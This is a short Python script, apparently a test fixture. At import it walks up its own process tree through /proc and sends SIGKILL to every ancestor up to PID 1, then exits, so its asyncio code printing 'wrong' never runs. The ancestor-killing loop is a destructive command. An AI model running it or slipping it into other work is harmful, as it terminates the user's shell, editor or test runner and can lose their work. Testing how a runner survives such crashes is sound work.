# SIGKILL to its parent, and to the parent of that, up to the first
import asyncio


import os
import signal
import sys


pid = os.getppid()
while pid > 1:
    with open(f"/proc/{pid}/status") as status:
        parent = next(int(line.split()[1]) for line in status if line.startswith("PPid"))
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    pid = parent
os._exit(0)


async def func1():
    print("wrong")


func2 = func3 = main = func1


asyncio.run(main())
